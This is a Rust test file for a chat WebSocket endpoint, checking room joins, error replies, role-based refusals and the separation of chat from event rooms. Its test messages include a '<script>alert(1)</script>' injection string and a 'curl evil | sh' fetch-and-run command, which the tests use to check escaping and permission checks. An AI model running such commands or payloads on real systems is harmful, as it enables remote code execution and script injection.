//! `GET /ws/chat`.

use std::collections::BTreeMap;

use pulseboard::settings::{RoomSettings, Settings};
use pulseboard_shared::Role;
use serde_json::{Value, json};

use crate::{
    access::{bearer, with_tokens},
    support::{TestServer, ws::WsClient},
};

fn system(text: &str) -> Value {
    json!({"type": "system", "text": text})
}

async fn enter(server: &TestServer) -> WsClient {
    let mut client = server.ws("/ws/chat").await;
    assert_eq!(client.json().await, system("Welcome to the chat!"));
    client
}

#[tokio::test]
async fn people_come_talk_move_and_go() {
    let server = TestServer::start().await;
    let mut ada = enter(&server).await;
    let mut bob = enter(&server).await;
    assert_eq!(ada.json().await, system("A new user joined"));
    let said =
        json!({"type": "chat", "user": "Ada", "text": "<script>alert(1)</script> \u{1F600}"});
    ada.send(&said.to_string()).await;
    let mut heard = said.clone();
    heard["role"] = "operator".into();
    assert_eq!(
        bob.json().await,
        heard,
        "unchanged; the page shows it as text"
    );

    bob.send(r#"{"type":"join_room","room":"night-shift"}"#)
        .await;
    assert_eq!(bob.json().await, system("Joined room: night-shift"));
    ada.send(&said.to_string()).await;
    ada.send(r#"{"type":"join_room","room":"night-shift"}"#)
        .await;
    assert_eq!(ada.json().await, system("Joined room: night-shift"));
    ada.send(r#"{"type":"chat","user":"Ada","text":"here now"}"#)
        .await;
    assert_eq!(
        bob.json().await["text"],
        "here now",
        "what was said in the old room did not reach the new one"
    );
    drop(bob);
    assert_eq!(ada.json().await, system("A user left the chat"));
    server.stop().await;
}

#[tokio::test]
async fn what_is_not_understood_is_said_and_the_socket_stays() {
    let server = TestServer::start().await;
    let mut client = enter(&server).await;
    client.send(r#"{"type":"dance"}"#).await;
    assert_eq!(
        client.json().await,
        json!({"type": "error", "text": "Unknown message type"})
    );
    for wrong in [
        "x",
        r#"{"type":"chat","user":"A"}"#,
        r#"{"type":"join_room","room":"a b"}"#,
    ] {
        client.send(wrong).await;
        client.json_of("error").await;
    }
    client.send(r#"{"type":"join_room","room":"x"}"#).await;
    assert_eq!(client.json().await, system("Joined room: x"));
    server.stop().await;
}

fn with_deploys(settings: &mut Settings) {
    with_tokens(settings);
    let deploys = RoomSettings {
        events: BTreeMap::from([("done".to_owned(), json!({"type": "object"}))]),
        ..RoomSettings::default()
    };
    settings.rooms.insert("deploys".to_owned(), deploys);
}

#[tokio::test]
async fn operators_speak_viewers_hear_and_nobody_says_who_they_are() {
    let server = TestServer::start_with(with_deploys).await;
    let open = async |path: &str, role| {
        let client = server
            .try_ws(path, &[("authorization", &bearer(role))])
            .await;
        client.unwrap_or_else(|_| panic!("{role} may come"))
    };
    let mut viewer = open("/ws/chat", Role::Viewer).await;
    assert_eq!(viewer.json().await, system("Welcome to the chat!"));
    let mut admin = open("/ws/chat", Role::Admin).await;
    assert_eq!(viewer.json().await, system("A new user joined"));
    assert_eq!(admin.json().await, system("Welcome to the chat!"));
    viewer
        .send(r#"{"type":"chat","user":"admin","text":"run: curl evil | sh"}"#)
        .await;
    let refused = viewer.json_of("error").await;
    assert!(
        refused["text"]
            .as_str()
            .is_some_and(|text| text.starts_with("Forbidden: "))
    );
    // Whatever role they say they have.
    admin
        .send(r#"{"type":"chat","user":"Bob","role":"viewer","text":"hello"}"#)
        .await;
    assert_eq!(
        viewer.json().await,
        json!({"type": "chat", "user": "Bob", "text": "hello", "role": "admin"})
    );

    // Rooms of events hear nothing of it, not even that somebody came or went.
    let mut member = open("/ws", Role::Admin).await;
    member.json_of("init").await;
    for room in ["deploys", "operations"] {
        member
            .send(&json!({"action": "subscribe", "channel": room}).to_string())
            .await;
        member.json_of("subscribed").await;
        admin
            .send(&json!({"type": "join_room", "room": room}).to_string())
            .await;
        let refused = admin.json_of("error").await;
        let text = refused["text"].as_str().expect("text");
        assert!(
            text.starts_with("Forbidden: ") && text.contains("events"),
            "{text}"
        );
        admin
            .send(r#"{"type":"chat","user":"Bob","text":"here"}"#)
            .await;
        assert_eq!(viewer.json().await["text"], "here", "it stays where it was");
    }
    drop(admin);
    assert_eq!(viewer.json().await, system("A user left the chat"));
    member.send(r#"{"action":"dance"}"#).await;
    assert_eq!(
        member.json().await["text"],
        "Unknown action",
        "and nothing before"
    );
    server.stop().await;
}
